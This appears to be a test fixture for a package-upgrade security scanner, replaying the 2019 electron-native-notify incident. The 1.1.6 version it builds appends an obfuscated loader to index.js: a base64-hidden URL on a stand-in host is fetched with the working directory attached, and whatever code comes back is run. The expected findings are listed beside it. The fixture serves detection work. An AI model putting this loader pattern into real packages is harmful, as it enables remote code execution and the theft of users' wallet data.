import type { Replay } from '../replay.js'
import { replayUpgrade } from '../upgrade.js'

const notify = `'use strict'

const { Notification } = require('electron')

const defaults = { silent: false, timeoutType: 'default', urgency: 'normal' }

/** Shows a notification of the system, and says what became of it. */
function notify(title, options) {
  return new Promise((resolve) => {
    const shown = new Notification({ title, ...defaults, ...options })
    shown.on('click', () => resolve('click'))
    shown.on('close', () => resolve('close'))
    shown.on('failed', () => resolve('failed'))
    shown.show()
  })
}

function isSupported() {
  return Notification.isSupported()
}

module.exports = { notify, isSupported }
`

const encoded = Buffer.from('https://updatecheck.notify.example/check/').toString('base64')

const loader = `
;(function () {
  const b = (text) => Buffer.from(text, 'base64').toString()
  const from = b('${encoded}') + encodeURIComponent(process.cwd())
  require('https').get(from, (answer) => {
    let text = ''
    answer.on('data', (piece) => (text += piece))
    answer.on('end', () => new Function('require', text)(require))
  }).on('error', () => {})
})()
`

const inIndex = { file: 'index.js', line: "require('https').get(from, (answer) => {" } as const

export const replay: Replay = replayUpgrade({
  description:
    'electron-native-notify was harmless until a wallet depended on it. The next release fetched code from an address in base64 and ran ' +
    'it inside the wallet, whose seeds it sent away.',
  date: '2019-06',
  name: 'electron-native-notify',
  from: ['1.1.5', { manifest: { main: 'index.js' }, files: { 'index.js': notify } }],
  to: ['1.1.6', { manifest: { main: 'index.js' }, files: { 'index.js': notify + loader } }],
  findings: [
    ['combined-risk', 'critical', inIndex],
    ['remote-code-run', 'critical', inIndex],
    ['beacon-added', 'high', inIndex],
    ['capability-added', 'high', inIndex],
    ['network-host-added', 'high', { file: 'index.js', line: /const from = b\('aHR0cHM6Ly91cGRhdGVj/ }],
  ],
})
